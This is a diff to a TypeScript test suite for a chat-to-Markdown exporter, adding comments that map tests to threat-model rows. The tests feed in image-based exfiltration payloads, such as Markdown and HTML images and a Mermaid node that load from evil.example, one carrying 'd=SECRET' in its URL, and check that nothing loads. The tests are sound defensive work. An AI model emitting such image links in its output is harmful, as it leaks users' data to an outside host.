@@ -64,6 +64,7 @@ function tagsIn(markdown: string): readonly string[] {
 const answerOf = (markdown: string): string => markdown.split('## Rivers\n\n').at(-1)?.trimEnd() ?? '';
 
 describe('a chat as Markdown', () => {
+  // Rows: T1, T2, T9
   it.each([
     '![x](https://evil.example/p.png?d=SECRET)',
     '![x][ref]\n\n[ref]: https://evil.example/p.png',
@@ -98,6 +99,7 @@ describe('a chat as Markdown', () => {
     expect(tagsIn(chatMarkdown(chatOf('text', { title: text, label: text, language: text }), 'You'))).toEqual([]);
   });
 
+  // Rows: T2, T9
   it('loads nothing of any text that is put together from marks', () => {
     const evil = ['<img src=https://evil.example/p.png>', '![x](https://evil.example/p.png)', '![x][r]', '<svg>', '<x'];
     const marks = [
@@ -151,6 +153,7 @@ describe('a chat as Markdown', () => {
     );
   });
 
+  // Rows: T7
   it('draws no diagram, which may load pictures: its code is code', () => {
     const diagram = 'flowchart\n  A@{ img: "https://evil.example/p.png" }';
     const text = `\`\`\`Mermaid\n${diagram}\n\`\`\`\n\n:::mermaid\n${diagram}\n:::`;
